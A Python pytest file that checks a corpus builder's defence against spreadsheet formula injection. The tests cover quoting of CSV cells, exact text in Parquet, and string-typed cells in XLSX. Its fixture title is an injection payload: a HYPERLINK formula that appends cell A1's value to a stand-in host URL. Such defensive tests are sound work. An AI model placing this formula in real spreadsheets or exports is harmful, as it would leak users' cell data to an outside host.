"""Spreadsheet formulas: CSV cells that a spreadsheet would run are made safe (OWASP: a single
quote in front); Parquet keeps the exact text; the XLSX holds them as text, never as formulas.

Before: 59 cells of the seed corpus began with "-" ("- item" shows as #NAME? in Excel), and a
manifest title `=HYPERLINK(...)` became a live formula.
"""

import csv
import zipfile

import pandas as pd
import pytest
from build_helpers import MANIFEST_HEADER, no_tags

from regionkit.build import build_corpus
from regionkit.fragments import FORMULA_PREFIXES, safe_csv_cell

TITLE = '=HYPERLINK("http://example.invalid/?q="&A1,"Klicka här")'
TEXT = ("Verksamhetsplan 2024\n\n- Utveckla samverkan kring vårdplatser\n"
        "=SUM(A1:A9) står i en tabell\n\n+46 70 123 45 67 är numret\n\n@regionen svarar\n")


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    root = tmp_path_factory.mktemp("formulas")
    raw = root / "raw"
    raw.mkdir()
    (raw / "plan.txt").write_text(TEXT, encoding="utf-8")
    title = '"' + TITLE.replace('"', '""') + '"'
    (raw / "manifest.csv").write_text(
        MANIFEST_HEADER + f"plan,plan.txt,sodra,Södra,verksamhetsplan,2024,2024,,{title}\n",
        encoding="utf-8")
    out = root / "out"
    result = build_corpus(raw, out, tag_many=no_tags, n_process=1)
    assert result.ok, result.problems
    return out


@pytest.mark.parametrize(("cell", "expected"), [
    ("=1+1", "'=1+1"), ("+46", "'+46"), ("-item", "'-item"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("a=b", "a=b"), ("", ""), (None, None), (-3, -3), (2.5, 2.5),
])
def test_safe_csv_cell(cell, expected):
    assert safe_csv_cell(cell) == expected


def _csv_cells(path):
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    return rows[0], rows[1:]


def test_no_csv_cell_starts_like_a_formula(built):
    for path in sorted(built.glob("*.csv")):
        header, rows = _csv_cells(path)
        numeric = {"seq", "char_start", "char_end", "n_words", "score", "period_start",
                   "period_end", "n_chars", "n_segments", "n_content_segments",
                   "n_boilerplate", "n_repairs"}
        for row in rows:
            for name, cell in zip(header, row, strict=True):
                if name not in numeric:
                    assert not cell.startswith(FORMULA_PREFIXES), (path.name, name, cell)


def test_formula_looking_text_is_quoted_in_csv_and_exact_in_parquet(built):
    header, rows = _csv_cells(built / "documents.csv")
    assert rows[0][header.index("title")] == "'" + TITLE
    assert pd.read_parquet(built / "documents.parquet")["title"].tolist() == [TITLE]
    texts = pd.read_parquet(built / "segments.parquet")["text"].tolist()
    header, rows = _csv_cells(built / "segments.csv")
    csv_texts = [r[header.index("text")] for r in rows]
    assert any(t.startswith("- Utveckla") for t in texts)
    assert csv_texts == [("'" + t) if t.startswith(FORMULA_PREFIXES) else t for t in texts]


def test_xlsx_holds_the_title_as_text_not_a_formula(built):
    openpyxl = pytest.importorskip("openpyxl")
    with zipfile.ZipFile(built / "documents.xlsx") as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    ws = openpyxl.load_workbook(built / "documents.xlsx").active
    header = [c.value for c in ws[1]]
    cell = ws.cell(row=2, column=header.index("title") + 1)
    assert cell.value == TITLE
    assert cell.data_type == "s"
